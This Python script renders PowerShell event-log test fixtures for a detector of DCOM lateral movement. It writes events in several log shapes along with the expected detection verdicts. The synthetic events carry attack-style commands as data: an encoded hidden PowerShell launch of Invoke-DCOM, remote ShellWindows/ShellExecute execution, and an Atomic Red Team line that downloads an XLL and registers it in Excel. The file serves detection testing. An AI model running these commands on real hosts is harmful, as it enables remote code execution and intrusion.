#!/usr/bin/env python3
"""Render the PowerShell fixtures (testdata/powershell/) into the body shapes
the real receivers produce: map.jsonl and array.jsonl (windowseventlog receiver,
event_data as a map or as data: [{Name: value}]), events.xml (raw: true),
flat.jsonl (NXLog im_msvistalog), winlogbeat.jsonl. Line N of each is the same
event; expected.json says what the extended profile makes of line N. Output is
committed; tests read the output.

Events: P01-P05 are the real recording (dcomexec_native.*, ATTRIBUTION.md),
with the user SID of its XML; S.. are synthetic, written for this project.
"""
import base64, json, os
from xml.sax.saxutils import escape

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "..", "testdata", "powershell")

WINPS = ("Microsoft-Windows-PowerShell", "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}", "Microsoft-Windows-PowerShell/Operational")
CORE = ("PowerShellCore", "{F90714A8-5509-434A-BF6D-B1624C8A19A2}", "PowerShellCore/Operational")
APP = ("Application Error", "{A0E9B465-B939-57D7-B27D-95D8E925FF57}", "Application")
ADMIN_SID = "S-1-5-21-1004336348-1177238915-682003330-1104"


def encode(text):
    return base64.b64encode(text.encode("utf-16-le")).decode()


def context_info(user, host_app):
    lines = [("Severity", "Informational"), ("Host Name", "ConsoleHost"), ("Host Version", "5.1.17763.1"),
             ("Host ID", "0b9a3c53-0f55-4cfc-9ad5-5d7e3ed2f1c1"), ("Host Application", host_app),
             ("Engine Version", "5.1.17763.1"), ("Runspace ID", "4a0f7e5e-7c1e-4d68-a3b9-7f7b0b9d7f01"),
             ("Pipeline ID", "12"), ("Command Name", "New-Object"), ("Command Type", "Cmdlet"),
             ("Script Name", ""), ("Command Path", ""), ("Sequence Number", "31"), ("User", user),
             ("Connected User", ""), ("Shell ID", "Microsoft.PowerShell")]
    return "".join(f"        {k} = {v}\r\n" for k, v in lines)


def block(text, block_id, n=1, total=1, path=""):
    return [("MessageNumber", str(n)), ("MessageTotal", str(total)), ("ScriptBlockText", text),
            ("ScriptBlockId", block_id), ("Path", path)]


# Synthetic events: (id, event id, source, computer, data pairs, expected pattern, evidence)
SYNTHETIC = [
    ("S01", 4104, WINPS, "ws01.corp.test",
     block("powershell.exe -NoP -w hidden -enc " + encode("Invoke-DCOM -ComputerName srv01 -Method MMC20.Application -Command calc.exe"),
           "5d0b1f7e-0d6b-4c1f-8d6e-3f3c6e0f0a01"),
     "DCOM_SourceInvocation", "Invoke-DCOM (decoded from -EncodedCommand)"),
    ("S02", 4103, WINPS, "ws01.corp.test",
     [("ContextInfo", context_info("CORP\\adm-jane", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")),
      ("UserData", ""),
      ("Payload", 'CommandInvocation(New-Object): "New-Object"\r\nParameterBinding(New-Object): name="ComObject"; value="MMC20.Application"\r\n')],
     # New-Object -ComObject creates the object on this computer: local COM use
     "none", ""),
    ("S03", 4104, WINPS, "ws01.corp.test",
     block('$xl = [activator]::CreateInstance([type]::GetTypeFromProgID("Excel.Application"))\r\n$xl.Visible = $true',
           "5d0b1f7e-0d6b-4c1f-8d6e-3f3c6e0f0a03", path="C:\\Reports\\Open-Workbook.ps1"),
     "none", ""),
    ("S04", 4104, CORE, "ws02.corp.test",
     block("Invoke-DCOM -ComputerName 10.0.0.7 -Method ShellWindows -Command 'cmd /c whoami'",
           "5d0b1f7e-0d6b-4c1f-8d6e-3f3c6e0f0a04", path="C:\\Users\\adm-jane\\dcom.ps1"),
     "DCOM_SourceInvocation", "Invoke-DCOM"),
    ("S05", 4104, APP, "ws02.corp.test",
     block("Invoke-DCOM -ComputerName 10.0.0.7", "5d0b1f7e-0d6b-4c1f-8d6e-3f3c6e0f0a05"),
     "none", ""),
    ("S06", 4104, WINPS, "ws03.corp.test",
     block("Get-ChildItem -Path C:\\Windows\\Temp -Filter *.log | Remove-Item -WhatIf", "5d0b1f7e-0d6b-4c1f-8d6e-3f3c6e0f0a06"),
     "none", ""),
]

# Multi-part script blocks, as Windows cuts a long block: a token split
# between two parts is found on the part that completes it, whatever the
# order the parts arrive in (here 3, 1, 2: the seam 1|2 completes with 2).
FILLER = "".join(f"Write-Verbose 'step {i}'\r\n" for i in range(200))
M_ID = "5d0b1f7e-0d6b-4c1f-8d6e-3f3c6e0f0b01"
M_PARTS = [FILLER + "Invoke-DC", "OM -ComputerName srv09 -Method ShellBrowserWindow\r\n" + FILLER, FILLER + "Write-Output done"]
N_ID = "5d0b1f7e-0d6b-4c1f-8d6e-3f3c6e0f0b02"
N_PARTS = [FILLER + '$t = [type]::GetTypeFromProgID("Excel.Application"', ', "fs02")\r\n$x = [activator]::CreateInstance($t)']
SYNTHETIC += [
    ("M03", 4104, WINPS, "ws04.corp.test", block(M_PARTS[2], M_ID, 3, 3), "none", ""),
    ("M01", 4104, WINPS, "ws04.corp.test", block(M_PARTS[0], M_ID, 1, 3), "none", ""),
    ("M02", 4104, WINPS, "ws04.corp.test", block(M_PARTS[1], M_ID, 2, 3),
     "DCOM_SourceInvocation", "Invoke-DCOM (across script block parts)"),
    ("N01", 4104, WINPS, "ws04.corp.test", block(N_PARTS[0], N_ID, 1, 2), "none", ""),
    ("N02", 4104, WINPS, "ws04.corp.test", block(N_PARTS[1], N_ID, 2, 2),
     "DCOM_SourceInvocation", "GetTypeFromProgID with a remote host (across script block parts)"),
]

# Dual-use tokens: lateral movement only with a target named in the same
# text. S07 names it in a 4103 parameter binding; S08 is Atomic Red Team
# T1137.006 test 441b1a0f (local RegisterXLL), S09 T1546.015 test 752191b1 (local
# ShellWindows), both as their atomics/*.yaml write them; S10 is S09
# against a remote computer.
ART_XLL = ("iwr -URI 'https://github.com/redcanaryco/atomic-red-team/raw/master/atomics/T1137.006/bin/HelloWorldXll.xll'"
           ' -o "$env:tmp\\HelloWorldXll.xll"; (new-object -ComObject excel.application).RegisterXLL("$env:tmp\\HelloWorldXll.xll")\n')
ART_SHELLWINDOWS = ('$o= [activator]::CreateInstance([type]::GetTypeFromCLSID("9BA05972-F6A8-11CF-A442-00A0C90A8F39"))\r\n'
                    '$item = $o.Item()\r\n'
                    '$item.Document.Application.ShellExecute("cmd.exe","/c calc.exe","C:\\windows\\system32",$null,0)')
SYNTHETIC += [
    ("S07", 4103, WINPS, "ws05.corp.test",
     [("ContextInfo", context_info("CORP\\adm-jane", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")),
      ("UserData", ""),
      ("Payload", 'CommandInvocation(Invoke-ExcelXLL): "Invoke-ExcelXLL"\r\n'
                  'ParameterBinding(Invoke-ExcelXLL): name="ComputerName"; value="srv07"\r\n'
                  'ParameterBinding(Invoke-ExcelXLL): name="Method"; value="RegisterXLL"\r\n')],
     "DCOM_SourceInvocation", "RegisterXLL with a remote target"),
    ("S08", 4104, WINPS, "ws05.corp.test", block(ART_XLL, "5d0b1f7e-0d6b-4c1f-8d6e-3f3c6e0f0a08"), "none", ""),
    ("S09", 4104, WINPS, "ws05.corp.test", block(ART_SHELLWINDOWS, "5d0b1f7e-0d6b-4c1f-8d6e-3f3c6e0f0a09"), "none", ""),
    ("S10", 4104, WINPS, "ws05.corp.test",
     block(ART_SHELLWINDOWS.replace('"9BA05972-F6A8-11CF-A442-00A0C90A8F39")', '"9BA05972-F6A8-11CF-A442-00A0C90A8F39", "10.0.0.9")'),
           "5d0b1f7e-0d6b-4c1f-8d6e-3f3c6e0f0a10"),
     "DCOM_SourceInvocation", "GetTypeFromCLSID with a remote host"),
]

# A dual-use token in one part of a block and its target in another: lateral
# movement together, found on the part that completes the block (here the
# first part, arriving second).
J_ID = "5d0b1f7e-0d6b-4c1f-8d6e-3f3c6e0f0b03"
J_PARTS = [FILLER + "$xl.RegisterXLL('C:\\Users\\Public\\report.xll')\r\n",
           "Invoke-Command -ComputerName fs05 -ScriptBlock { Get-Service }\r\n" + FILLER]
SYNTHETIC += [
    ("J02", 4104, WINPS, "ws06.corp.test", block(J_PARTS[1], J_ID, 2, 2), "none", ""),
    ("J01", 4104, WINPS, "ws06.corp.test", block(J_PARTS[0], J_ID, 1, 2),
     "DCOM_SourceInvocation", "RegisterXLL with a remote target (across script block parts)"),
]


def xml_value(v):
    return escape(str(v), {'"': "&quot;", "\n": "&#10;", "\r": "&#13;"})


def load_real():
    maps = [json.loads(l) for l in open(os.path.join(OUT, "dcomexec_native.stream.json"), encoding="utf-8")]
    xmls = [l.rstrip("\n") for l in open(os.path.join(OUT, "dcomexec_native.events.xml"), encoding="utf-8")]
    events = []
    for i, (m, x) in enumerate(zip(maps, xmls)):
        sid = x.split('<Security UserID="', 1)[1].split('"', 1)[0]
        m["security"] = {"user_id": sid}
        expected = ("DCOM_SourceInvocation", "GetTypeFromProgID with a remote host") if i == 1 else ("none", "")
        events.append({"id": f"P{i + 1:02d}", "map": m, "xml": x, "expected": expected})
    return events


def synthetic(record_id, sid, ev):
    ident, event_id, (prov, guid, chan), computer, data, pattern, evidence = ev
    time = f"2026-12-01T10:00:{record_id % 60:02d}.000000000Z"
    m = {
        "event_id": {"id": event_id, "qualifiers": 0},
        "provider": {"name": prov, "guid": guid, "event_source": ""},
        "channel": chan, "computer": computer, "record_id": record_id, "system_time": time,
        "level": "5", "task": "2", "opcode": "15", "keywords": ["0x0"], "message": "", "version": 1,
        "event_data": dict(data), "security": {"user_id": sid},
    }
    items = "".join(f'<Data Name="{k}"/>' if v == "" else f'<Data Name="{k}">{xml_value(v)}</Data>' for k, v in data)
    x = (f'<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="{prov}" Guid="{guid}"/>'
         f"<EventID>{event_id}</EventID><Version>1</Version><Level>5</Level><Task>2</Task><Opcode>15</Opcode>"
         f'<Keywords>0x0</Keywords><TimeCreated SystemTime="{time}"/><EventRecordID>{record_id}</EventRecordID>'
         f'<Correlation/><Execution ProcessID="4242" ThreadID="4243"/><Channel>{chan}</Channel><Computer>{computer}</Computer>'
         f'<Security UserID="{sid}"/></System><EventData>{items}</EventData></Event>')
    return {"id": ident, "map": m, "xml": x, "expected": (pattern, evidence)}


def shapes(e):
    m = e["map"]
    array = dict(m)
    array["event_data"] = {"data": [{k: v} for k, v in m["event_data"].items()]}
    flat = {"EventID": m["event_id"]["id"], "Channel": m["channel"], "SourceName": m["provider"]["name"],
            "Hostname": m["computer"], "EventTime": m["system_time"][:19].replace("T", " "),
            "RecordNumber": m["record_id"], "UserID": m["security"]["user_id"]}
    flat.update(m["event_data"])
    winlogbeat = {"@timestamp": m["system_time"], "winlog": {
        "event_id": str(m["event_id"]["id"]), "channel": m["channel"], "provider_name": m["provider"]["name"],
        "computer_name": m["computer"], "record_id": m["record_id"], "user": {"identifier": m["security"]["user_id"]},
        "event_data": m["event_data"]}}
    return {"map.jsonl": m, "array.jsonl": array, "flat.jsonl": flat, "winlogbeat.jsonl": winlogbeat}


def main():
    events = load_real()
    for i, ev in enumerate(SYNTHETIC):
        events.append(synthetic(9000 + i, ADMIN_SID, ev))
    files = {name: [] for name in ("map.jsonl", "array.jsonl", "flat.jsonl", "winlogbeat.jsonl")}
    xml = []
    expected = []
    for e in events:
        for name, body in shapes(e).items():
            files[name].append(json.dumps(body, ensure_ascii=False))
        xml.append(e["xml"])
        expected.append({"id": e["id"], "pattern": e["expected"][0], "evidence": e["expected"][1]})
    for name, lines in files.items():
        with open(os.path.join(OUT, name), "w", encoding="utf-8", newline="\n") as f:
            f.write("\n".join(lines) + "\n")
    with open(os.path.join(OUT, "events.xml"), "w", encoding="utf-8", newline="\n") as f:
        f.write("\n".join(xml) + "\n")
    with open(os.path.join(OUT, "expected.json"), "w", encoding="utf-8", newline="\n") as f:
        json.dump(expected, f, indent=1)
        f.write("\n")


if __name__ == "__main__":
    main()
